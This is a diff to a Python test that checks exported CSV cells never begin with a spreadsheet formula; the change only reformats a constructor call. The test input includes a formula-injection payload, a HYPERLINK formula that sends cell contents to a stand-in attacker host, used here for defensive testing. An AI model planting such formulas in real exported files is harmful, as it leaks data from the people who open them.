@@ -691,7 +691,10 @@ def test_csv_cells_never_start_a_spreadsheet_formula(tmp_path: Path) -> None:
     claim = '=HYPERLINK("http://evil.example/?"&A1,"open")'
     record = BatchRecord(id="q1", claim=claim, urls=("https://example.com/a",), line=1)
     verdict = CitationVerdict(
-        url="https://example.com/a", label=Label.supported, evidence_quote="@SUM(A1)", confidence=0.9
+        url="https://example.com/a",
+        label=Label.supported,
+        evidence_quote="@SUM(A1)",
+        confidence=0.9,
     )
     write_csv(tmp_path / "r.csv", [BatchRow(Citation(record, 0, record.urls[0]), verdict)])
     (row,) = csv.DictReader((tmp_path / "r.csv").open())
